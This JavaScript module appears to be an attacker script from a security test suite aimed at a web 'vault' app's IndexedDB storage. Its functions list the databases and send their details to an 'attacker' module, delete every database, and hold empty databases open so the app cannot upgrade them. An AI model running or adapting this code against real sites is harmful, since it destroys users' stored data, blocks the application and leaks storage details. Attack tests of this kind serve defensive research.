// A script that is at the vault's databases before the vault, on the first of its pages.
import { loot } from "./attacker.js";
import { DATABASES, deleteAll, done, makeEmpty } from "./stored.js";

if (!sessionStorage.getItem("emptied")) {
  for (const base of await makeEmpty()) base.close();
  sessionStorage.setItem("emptied", "once");
}

/** What is there now: each database with its version and its stores. */
export async function look(attack) {
  const found = [];
  for (const [name] of DATABASES) {
    const base = await done(indexedDB.open(name));
    found.push([name, base.version, [...base.objectStoreNames]]);
    base.close();
  }
  loot(attack, found);
  return found;
}

/** Deletes what the vault keeps. */
export async function remove(attack) {
  loot(attack, await indexedDB.databases());
  await deleteAll();
}

/** Makes them without their stores and keeps them open, so that nobody can change their version. */
export async function hold(attack) {
  window.tw.kept.push(...(await makeEmpty()));
  loot(attack, await indexedDB.databases());
}
